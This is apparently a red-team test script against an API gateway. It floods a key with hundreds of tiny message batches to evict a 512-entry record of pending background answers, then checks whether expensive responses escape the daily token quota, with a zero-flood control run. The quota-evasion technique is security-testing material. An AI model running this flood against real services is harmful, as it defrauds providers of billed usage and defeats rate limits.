// R14 target: the key's record of unread answers holds "at most 512, oldest forgotten first" (security.md). Fill it with
// cheap one-line message batches (each a record: "a message batch its reservation") after launching background Responses
// whose input the origin adds (input_file by file_url: the origin bills 20,000 input tokens each), then read them.
// FLOOD=0 is the control. Key tier "small": rpm 600, tpm 5,000, tpd 20,000, concurrency 2.
import { req, setTier, info, sleep } from "./lib14.mjs";
const FLOOD = +(process.env.FLOOD ?? 520); const NBG = +(process.env.NBG ?? 2); const TIER = process.env.TIER ?? "small";
const KEY = `sk-rt14-evict-${FLOOD}-${Date.now().toString(36)}`; await setTier(KEY, TIER);
const show = async (tag) => { const i = await info(KEY); const u = Object.fromEntries(i.usage.map((x) => [x.name, x.remaining])); console.log(`${tag}: remaining rpm=${u.rpm} tpm=${u.tpm} tpd=${u.tpd} conc=${u.concurrency} inFlight=${i.inFlight}`); return u; };
await show("fresh key");
const ids = [];
for (let i = 0; i < NBG; i++) {
  const r = await req("POST", "/v1/responses", { key: KEY, body: { model: "gpt-4o@bgms=1500", input: [{ role: "user", content: [{ type: "input_file", file_url: `https://example.com/doc${i}.pdf` }, { type: "input_text", text: "Summarise." }] }], max_output_tokens: 100, background: true } });
  console.log(`background ${i}: ${r.status} ${r.status === 200 ? JSON.parse(r.text).status : r.text.slice(0, 160)}`); if (r.status === 200) ids.push(JSON.parse(r.text).id);
}
await show("after background POSTs");
let ok = 0, bad = {}; const t0 = Date.now();
for (let i = 0; i < FLOOD && Date.now() - t0 < 120000; i++) {
  const r = await req("POST", "/v1/messages/batches", { key: KEY, headers: { "anthropic-version": "2023-06-01" }, body: { requests: [{ custom_id: "c" + i, params: { model: "claude-x", max_tokens: 1, messages: [{ role: "user", content: "x" }] } }] } });
  if (r.status === 200) ok++; else { bad[r.status] = (bad[r.status] ?? 0) + 1; if (bad[r.status] === 1) console.log("flood refusal:", r.status, r.text.slice(0, 200)); if (r.status === 429) await sleep(1000); }
}
if (FLOOD) console.log(`flood: ${ok} one-line message batches in ${((Date.now() - t0) / 1000).toFixed(1)} s, refused ${JSON.stringify(bad)}`);
const before = await show("before reading");
await sleep(1600);
let billed = 0;
for (const id of ids) { const g = await req("GET", `/v1/responses/${id}`, { key: KEY }); const j = g.status === 200 ? JSON.parse(g.text) : null; console.log(`GET ${id}: ${g.status} status=${j?.status} usage=${JSON.stringify(j?.usage)}`); if (j?.usage) billed += j.usage.total_tokens; }
await sleep(1500);
const after = await show("after reading");
console.log(`RESULT flood=${FLOOD}: origin billed ${billed} tokens for ${ids.length} background answers; tpd charged by the reads: ${before.tpd - after.tpd} (tpm ${before.tpm - after.tpm})`);
